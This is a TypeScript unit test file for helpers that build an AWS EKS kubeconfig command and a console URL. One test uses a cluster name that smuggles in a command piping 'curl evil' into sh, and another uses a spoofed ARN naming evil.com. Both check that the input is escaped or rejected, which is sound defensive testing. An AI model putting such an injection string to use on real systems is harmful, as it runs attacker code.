/*
 * Copyright 2026 The EKS Fleet Authors
 *
 * Licensed under the Apache License, Version 2.0 (the "License");
 * you may not use this file except in compliance with the License.
 * You may obtain a copy of the License at
 *
 *     http://www.apache.org/licenses/LICENSE-2.0
 *
 * Unless required by applicable law or agreed to in writing, software
 * distributed under the License is distributed on an "AS IS" BASIS,
 * WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
 * See the License for the specific language governing permissions and
 * limitations under the License.
 */

import { aCluster } from '../__testUtils__/fleet';
import { clusterConsoleUrl, updateKubeconfigCommand } from './awsCommands';

describe('updateKubeconfigCommand', () => {
  it('names Region and cluster', () => {
    expect(updateKubeconfigCommand(aCluster({ name: 'prod' }))).toBe(
      'aws eks update-kubeconfig --region eu-west-1 --name prod',
    );
  });

  it('quotes hostile names', () => {
    expect(
      updateKubeconfigCommand(aCluster({ name: "x'; curl evil | sh #" })),
    ).toBe(
      `aws eks update-kubeconfig --region eu-west-1 --name 'x'\\''; curl evil | sh #'`,
    );
  });

  it('has none without a Region', () => {
    expect(
      updateKubeconfigCommand(aCluster({ region: undefined })),
    ).toBeUndefined();
  });
});

describe('clusterConsoleUrl', () => {
  it('leads to the console of the cluster and its account', () => {
    const url = new URL(clusterConsoleUrl(aCluster({ name: 'prod' }))!);
    expect(url.host).toBe('eu-west-1.console.aws.amazon.com');
    expect(url.searchParams.get('accountId')).toBe('111122223333');
  });

  it('is not made of something that is no cluster ARN', () => {
    expect(
      clusterConsoleUrl(aCluster({ arn: 'arn:aws:eks:evil.com#:1:cluster/x' })),
    ).toBeUndefined();
  });
});
